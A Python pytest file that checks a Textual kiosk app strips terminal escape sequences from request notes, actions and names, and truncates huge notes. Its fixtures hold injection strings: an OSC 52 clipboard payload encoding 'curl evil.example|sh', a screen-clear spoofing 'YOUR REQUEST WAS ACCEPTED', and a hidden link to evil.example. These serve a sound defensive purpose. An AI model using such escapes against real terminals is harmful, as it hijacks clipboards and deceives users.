"""Stored text on the screens: escapes typed through the CLI or the console, or left in a data
file written by hand, reach no terminal; huge text from an old file is cut, not drawn whole."""

import html
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from textual import events
from textual.pilot import Pilot
from textual.widgets import Input

from kiosk.app import make_staff_app
from kiosk.app.kiosk import KioskApp
from kiosk.cli import main
from kiosk.cli.wiring import open_services
from kiosk.config import KioskConfig
from kiosk.domain.typed_text import ELLIPSIS, NOTE_LIMIT
from screens.resident import StatusScreen
from screens.staff.audit import StaffAuditScreen
from screens.staff.request import StaffRequestScreen
from screens.staff.status_change import StatusChangeDialog
from tests.conftest import frozen_clock
from tests.kiosk.conftest import AHMED, KioskFactory, settle, sign_in
from widgets import BidiText

NUMBER = "9000000100"
"""Ahmed's newest Iqama request, under review in the demo: the first of his list."""

OSC_52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\"
"""Sets the terminal's clipboard to ``curl evil.example|sh``."""

CLEAR_AND_REWRITE = "\x1b[2J\x1b[HYOUR REQUEST WAS ACCEPTED"
"""Clears the screen and writes a lie on its top line."""

LINK_AND_COLOUR = "\x1b]8;;https://evil.example\x07Counter 3\x1b]8;;\x07 \x9b31mnow\x1b[0m"
"""A hidden link, then the C1 CSI (0x9B) and 7-bit SGR colour codes around a word."""

# What no drawn cell may hold: controls, and what is left of an escape cut to its ESC byte.
LEFT_OF_AN_ESCAPE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]|\\[2J|\\[H|52;c|Y3Vy|]8;"
)


def drawn(app: Any) -> str:
    """Every cell the app draws now, row after row, as the screenshot holds them."""
    svg = app.export_screenshot()
    cells = re.findall(r"<text [^>]*>([^<]*)</text>", svg)
    return html.unescape("".join(cells)).replace("\xa0", " ")


def assert_harmless(app: Any) -> None:
    """No control, no escape remnant, no reordering control among the drawn cells."""
    shown = drawn(app)
    assert shown, "nothing was drawn"
    assert not LEFT_OF_AN_ESCAPE.search(shown), LEFT_OF_AN_ESCAPE.findall(shown)


def hand_edit(db: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    """Change the data file as a person with an editor would: plain JSON, no outline."""
    data = json.loads(db.read_text("utf-8"))
    data.pop("_outline", None)
    edit(data)
    db.write_text(json.dumps(data, ensure_ascii=False, indent=1), "utf-8")


@pytest.fixture
def db(demo_template: Path, tmp_path: Path) -> Path:
    """The data file the ``kiosk`` fixture opens (a fresh copy of the demo)."""
    path = tmp_path / "tawasul.json"
    shutil.copy(demo_template, path)
    return path


async def open_status(pilot: Pilot[None]) -> StatusScreen:
    """Sign Ahmed in and open 9000000100, the first of his Iqama requests; the screens on the
    way (his name on the type list, the request list) must be harmless too."""
    await sign_in(pilot, *AHMED)
    assert_harmless(pilot.app)
    await pilot.press("down", "enter")  # Iqama inside the Kingdom: the list
    await pilot.pause()
    assert_harmless(pilot.app)
    await pilot.press("enter")  # the newest: 9000000100
    await settle(pilot)
    screen = pilot.app.screen
    assert isinstance(screen, StatusScreen) and screen.request.number == NUMBER
    return screen


@pytest.mark.parametrize("language", ["en", "ar"])
async def test_escapes_set_through_the_cli_reach_the_resident_harmless(
    kiosk: KioskFactory, db: Path, language: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """The issue's repro: OSC 52 in the note, a screen clear as the action, by the CLI.

    A note that is nothing but an escape is no note: the change is refused in one sentence.
    """
    argv = ["request", "set-status", NUMBER, "returned", "--db", str(db), "--by", "x\x1b[8m"]
    assert main([*argv, "--note", OSC_52, "--action", CLEAR_AND_REWRITE]) == 2
    assert "a note is required" in capsys.readouterr().err
    assert main([*argv, "--note", OSC_52 + "Photo too dark", "--action", CLEAR_AND_REWRITE]) == 0
    assert f"{NUMBER} is now returned." in capsys.readouterr().out
    app: KioskApp = kiosk(language)
    async with app.run_test(size=(100, 40)) as pilot:
        await open_status(pilot)
        assert_harmless(app)
        # What the action said as text is shown as text, nothing more.
        assert "YOUR REQUEST WAS ACCEPTED" in drawn(app)
    stored = app.services.store.request(NUMBER)
    assert stored is not None
    assert (stored.history[-1].by, stored.history[-1].note) == ("x", "Photo too dark")
    assert stored.required_action == "YOUR REQUEST WAS ACCEPTED"


async def test_escapes_pasted_into_the_console_reach_the_resident_harmless(
    kiosk: KioskFactory, db: Path
) -> None:
    """A member pastes escapes (bracketed paste keeps them) into the note and the action."""
    services = open_services(db, KioskConfig(), clock=frozen_clock)
    staff = make_staff_app(services, "staff", "local", handle_signals=False)
    async with staff.run_test(size=(140, 44)) as pilot:
        await settle(pilot)
        staff.screen.query_one("#search", Input).value = NUMBER
        await settle(pilot)
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(staff.screen, StaffRequestScreen)
        await pilot.press("c")
        await settle(pilot)
        dialog = staff.screen
        assert isinstance(dialog, StatusChangeDialog)
        await pilot.press("down", "enter")  # Returned, the first choice; the note field is next
        await settle(pilot)
        dialog.query_one("#note", Input).post_message(events.Paste(OSC_52 + "Photo too dark"))
        dialog.query_one("#action", Input).post_message(events.Paste(CLEAR_AND_REWRITE))
        await settle(pilot)
        await pilot.press("ctrl+s", "ctrl+s")  # save, then confirm from → to
        await settle(pilot)
        assert isinstance(staff.screen, StaffRequestScreen)
        assert_harmless(staff)
    stored = services.store.request(NUMBER)
    assert stored is not None and stored.history[-1].note == "Photo too dark"
    assert stored.required_action == "YOUR REQUEST WAS ACCEPTED"
    app: KioskApp = kiosk("ar")
    async with app.run_test(size=(100, 40)) as pilot:
        await open_status(pilot)
        assert_harmless(app)


def _poison(data: dict[str, Any]) -> None:
    """What an older version or an editor may have left: raw escapes in every typed field."""
    request = data["requests"][NUMBER]
    request["status"] = "returned"
    request["required_action"] = CLEAR_AND_REWRITE + " \u202eevil"
    request["history"].append(
        {"status": "returned", "at": request["updated"], "by": "x" + OSC_52, "note": OSC_52}
    )
    request["internal_notes"].append(
        {"at": request["updated"], "by": "\x9b2Jmallory", "text": LINK_AND_COLOUR}
    )
    audit = data["audit"]
    audit[str(len(audit) + 1)] = {
        "at": request["updated"],
        "actor": "mallory" + OSC_52,
        "action": "request.status",
        "target": NUMBER + "\x1b[2J",
        "details": {"note": CLEAR_AND_REWRITE},
    }
    data["applicants"][AHMED[0]]["name_en"] = "Ahmed\x1b]52;c;Y3Vy\x07 Raza \x9b2JKhan"
    for member in data["staff"].values():
        member["display_name"] += "\x1b]0;pwned\x07"


async def test_a_hand_edited_file_with_raw_escapes_is_drawn_harmless(
    kiosk: KioskFactory, db: Path
) -> None:
    hand_edit(db, _poison)
    app: KioskApp = kiosk("en")
    async with app.run_test(size=(100, 40)) as pilot:
        await open_status(pilot)
        assert_harmless(app)
        assert "YOUR REQUEST WAS ACCEPTED evil" in drawn(app)
        await pilot.press("escape", "escape")
        await pilot.pause()
        assert "Welcome, Ahmed K." in drawn(app)
    services = open_services(db, KioskConfig(), clock=frozen_clock)
    staff = make_staff_app(services, "supervisor", "local", handle_signals=False)
    async with staff.run_test(size=(160, 44)) as pilot:
        await settle(pilot)
        assert_harmless(staff)  # the request table and the header's staff name
        staff.screen.query_one("#search", Input).value = NUMBER
        await settle(pilot)
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(staff.screen, StaffRequestScreen)
        assert_harmless(staff)
        assert "Counter 3 now" in drawn(staff)
        await pilot.press("escape")
        await settle(pilot)
        await staff.run_action("switch_mode('audit')")
        await settle(pilot)
        assert isinstance(staff.screen, StaffAuditScreen)
        assert_harmless(staff)
        assert "mallory" in drawn(staff)


async def test_a_huge_note_from_an_old_file_is_cut_on_screen(kiosk: KioskFactory, db: Path) -> None:
    """A million-word action (written before the limits) shows as its first NOTE_LIMIT
    characters and "…"; the screen is drawn, not frozen building 6 MB of lines."""

    def huge(data: dict[str, Any]) -> None:
        request = data["requests"][NUMBER]
        request["status"] = "returned"
        request["required_action"] = "word " * 1_000_000
        request["history"].append(
            {"status": "returned", "at": request["updated"], "by": "x", "note": "note " * 10**6}
        )

    hand_edit(db, huge)
    app: KioskApp = kiosk("en")
    async with app.run_test(size=(100, 40)) as pilot:
        screen = await open_status(pilot)
        action = screen.query_one("#action", BidiText).text
        assert action.endswith(ELLIPSIS)
        assert action.count("word") < NOTE_LIMIT // 5 + 1
        assert ELLIPSIS in drawn(app)
